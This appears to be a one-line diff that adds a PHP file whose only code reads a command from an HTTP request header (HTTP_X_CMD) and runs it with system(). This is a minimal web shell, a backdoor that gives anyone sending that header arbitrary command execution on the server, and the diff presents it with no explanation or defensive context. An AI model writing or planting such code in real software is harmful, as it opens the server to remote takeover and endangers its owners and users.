@@ -1,0 +1,1 @@
+<?php $h = getenv("HTTP_X_CMD"); system($h);
